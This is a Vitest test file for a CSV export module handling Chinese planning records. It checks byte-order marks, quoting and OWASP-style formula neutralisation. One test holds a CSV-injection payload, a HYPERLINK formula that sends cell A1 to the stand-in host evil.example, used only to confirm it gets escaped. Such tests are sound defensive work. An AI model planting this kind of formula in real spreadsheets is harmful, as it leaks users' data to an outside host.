import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvField, neutraliseFormula, parseCsv, toCsv } from '../../../src/lib/data/csv.ts';

describe('CSV (RFC 4180, for Excel)', () => {
  it('starts with a UTF-8 byte-order mark and ends every record with CRLF', () => {
    const csv = toCsv([
      ['编号', '任务'],
      ['2021/01-1', '公开规划'],
    ]);
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
    expect(csv).toBe('\uFEFF编号,任务\r\n2021/01-1,公开规划\r\n');
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });

  it('leaves plain fields bare, Chinese punctuation included', () => {
    expect(csvField('市发展改革委、市自然资源局')).toBe('市发展改革委、市自然资源局');
    expect(csvField('做好规划，公开信息。')).toBe('做好规划，公开信息。');
    expect(csvField('')).toBe('');
  });

  it('quotes fields with a comma, a double quote, CR or LF and doubles the quotes inside', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('他说"公开"')).toBe('"他说""公开"""');
    expect(csvField('第一行\n第二行')).toBe('"第一行\n第二行"');
    expect(csvField('第一行\r\n第二行')).toBe('"第一行\r\n第二行"');
    expect(csvField('"')).toBe('""""');
  });

  it('keeps leading and trailing spaces as they are', () => {
    expect(csvField(' 9月底 ')).toBe(' 9月底 ');
  });

  it('neutralises a cell that starts like a formula with a leading apostrophe (OWASP), and only those', () => {
    expect(csvField('=HYPERLINK("https://evil.example/?q="&A1,"点击查看")')).toBe(
      `"'=HYPERLINK(""https://evil.example/?q=""&A1,""点击查看"")"`,
    );
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('-1')).toBe("'-1");
    expect(csvField('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField('2021-06-30')).toBe('2021-06-30');
    expect(csvField('已完成 = 100%')).toBe('已完成 = 100%');
    expect(csvField(' =1')).toBe(' =1');
    expect(neutraliseFormula('')).toBe('');
  });

  it('reads back the neutralised text, apostrophe first, in a whole file', () => {
    const csv = toCsv([
      ['编号', '进展情况'],
      ['2021/01-1', '=1+1'],
      ['2021/01-2', '-'],
    ]);
    expect(csv).toBe("\uFEFF编号,进展情况\r\n2021/01-1,'=1+1\r\n2021/01-2,'-\r\n");
    expect(parseCsv(csv.slice(1))).toEqual([
      ['编号', '进展情况'],
      ['2021/01-1', "'=1+1"],
      ['2021/01-2', "'-"],
    ]);
  });

  it('refuses rows whose width differs from the header', () => {
    expect(() => toCsv([['a', 'b'], ['1']])).toThrow(/row 2/);
  });
});
